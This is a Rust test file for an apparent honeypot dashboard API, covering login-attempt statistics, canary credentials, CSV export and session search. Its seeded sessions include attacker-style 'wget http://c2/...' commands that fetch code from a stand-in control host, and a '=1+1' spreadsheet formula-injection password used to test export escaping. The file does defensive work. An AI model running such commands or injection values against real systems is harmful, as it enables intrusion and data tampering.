//! Log-ins in numbers, canaries, and sessions found by what was said in them.

use super::rig::{Rig, event};
use hyper::StatusCode;
use serde_json::Value;
use std::time::Duration;
use ukai_model::{EventKind, SessionId, Timestamp};

fn now() -> Timestamp {
    crate::clock::now()
}

fn login(protocol: &str, user: &str, password: &str, success: bool) -> EventKind {
    EventKind::LoginAttempt {
        protocol: protocol.into(),
        user: user.into(),
        password: password.into(),
        method: None,
        proof: None,
        success,
    }
}

/// A session with these events.
async fn visit(
    rig: &Rig,
    begin: Timestamp,
    n: u8,
    protocol: &str,
    kinds: Vec<EventKind>,
) -> String {
    let id = SessionId::new(begin, u128::from(n));
    let peer = format!("198.51.100.{n}:4000");
    let open = EventKind::SessionOpen { protocol: protocol.into(), persona: "p".into() };
    let kinds = std::iter::once(open).chain(kinds);
    let events = (0_u64..)
        .zip(kinds)
        .map(|(step, kind)| event(begin + Duration::from_millis(step), id, &peer, kind));
    rig.store.submit(events.collect()).await.expect("stored");
    id.to_string()
}

fn ids(page: &Value) -> Vec<&str> {
    page["items"].as_array().expect("a list").iter().filter_map(|s| s["id"].as_str()).collect()
}

#[tokio::test]
async fn log_ins_are_counted_listed_and_exported() {
    let rig = Rig::start().await;
    let long_ago = now() - Duration::from_hours(72);
    visit(&rig, long_ago, 1, "ssh", vec![login("ssh", "root", "old", false)]).await;
    let canary = EventKind::LoginCanary {
        protocol: "ssh".into(),
        user: "backup-svc".into(),
        note: "in the wiki".into(),
    };
    let client = EventKind::ClientFingerprint {
        method: "hassh".into(),
        value: "92674389".into(),
        software: Some("SSH-2.0-Go".into()),
    };
    let kinds = vec![
        client,
        login("ssh", "root", "old", false),
        login("ssh", "root", "=1+1", false),
        login("ssh", "root", "=1+1", true),
        login("ssh", "backup-svc", "x", false),
        canary,
    ];
    visit(&rig, now() - Duration::from_mins(1), 2, "ssh", kinds).await;
    let kinds = vec![login("telnet", "admin", "admin", false)];
    visit(&rig, now() - Duration::from_mins(1), 3, "telnet", kinds).await;

    let all = rig.json("/api/credentials").await;
    assert_eq!(
        all["protocols"],
        serde_json::json!([
            {"protocol": "ssh", "attempts": 4, "successes": 1},
            {"protocol": "telnet", "attempts": 1, "successes": 0},
        ])
    );
    let values = |list: &Value| -> Vec<String> {
        let entries = list.as_array().expect("a list").iter();
        entries.map(|entry| format!("{} {}", entry["value"], entry["count"])).collect()
    };
    assert_eq!(values(&all["users"])[0], "\"root\" 3");
    assert_eq!(values(&all["pairs"])[0], "\"root:=1+1\" 2");
    assert!(!values(&all["new_pairs"]).contains(&"\"root:old\" 1".to_owned()), "{all}");
    assert!(values(&all["new_pairs"]).contains(&"\"admin:admin\" 1".to_owned()), "{all}");
    assert_eq!(all["clients"][0]["software"], "SSH-2.0-Go");
    assert_eq!(all["canaries"][0]["note"], "in the wiki");
    assert_eq!((&all["counted"], &all["complete"]), (&Value::Null, &Value::Bool(true)));

    let telnet = rig.json("/api/credentials?protocol=telnet&range=1h").await;
    assert_eq!(values(&telnet["pairs"]), ["\"admin:admin\" 1"]);
    assert_eq!((&telnet["counted"], &telnet["complete"]), (&1.into(), &Value::Bool(true)));

    let csv = rig.get("/api/credentials/export?list=passwords&format=csv").await;
    assert!(csv.text().starts_with("value,count\r\n\"'=1+1\",2\r\n"), "{}", csv.text());
    assert_eq!(csv.headers["content-disposition"], "attachment; filename=\"ukai-passwords.csv\"");
    let text = rig.get("/api/credentials/export?list=users&protocol=telnet").await.text();
    assert_eq!(text, "admin\n");
    rig.get("/api/credentials/export").await.is_error(StatusCode::BAD_REQUEST);
    rig.get("/api/credentials?range=1y").await.is_error(StatusCode::BAD_REQUEST);

    let overview = rig.json("/api/overview?range=1h").await;
    assert_eq!(overview["canaries"][0]["user"], "backup-svc");
}

#[tokio::test]
async fn sessions_are_found_by_user_client_and_command() {
    let rig = Rig::start().await;
    let begin = now() - Duration::from_mins(10);
    let command = |line: &str| EventKind::CommandInput { line: line.into(), unknown: Vec::new() };
    let client = |value: &str| EventKind::ClientFingerprint {
        method: "hassh".into(),
        value: value.into(),
        software: Some("SSH-2.0-Go".into()),
    };
    let at = |n| begin + Duration::from_secs(n);
    let one = vec![client("aa11"), login("ssh", "root", "x", true), command("WGET http://c2/x")];
    let one = visit(&rig, at(1), 1, "ssh", one).await;
    let two = vec![client("bb22"), login("ssh", "admin", "x", true), command("wget http://c2/y")];
    let two = visit(&rig, at(2), 2, "ssh", two).await;
    let three = vec![login("telnet", "root", "x", true), command("uname -a")];
    let three = visit(&rig, at(3), 3, "telnet", three).await;
    let (one, two, three) = (one.as_str(), two.as_str(), three.as_str());
    for (query, expected) in [
        ("command=wget", vec![two, one]),
        ("command=wget&user=root", vec![one]),
        ("command=WGET&fingerprint=bb", vec![two]),
        ("user=root", vec![three, one]),
        ("user=root&protocol=telnet", vec![three]),
        ("user=roo", vec![]),
        ("fingerprint=openssh", vec![]),
        ("fingerprint=ssh-2.0-go", vec![two, one]),
        ("command=wget&src_ip=198.51.100.2", vec![two]),
        ("command=wget&has=sample", vec![]),
    ] {
        let page = rig.json(&format!("/api/sessions?{query}")).await;
        assert_eq!(ids(&page), expected, "{query}");
        assert_eq!(page["next"], Value::Null, "{query}");
    }
    let first = rig.json("/api/sessions?command=wget&limit=1").await;
    assert_eq!(ids(&first), [two]);
    let next = first["next"].as_str().expect("more");
    let second = rig.json(&format!("/api/sessions?command=wget&limit=1&before={next}")).await;
    assert_eq!(ids(&second), [one]);
    rig.get("/api/sessions?command=wget&before=zzz").await.is_error(StatusCode::BAD_REQUEST);
}
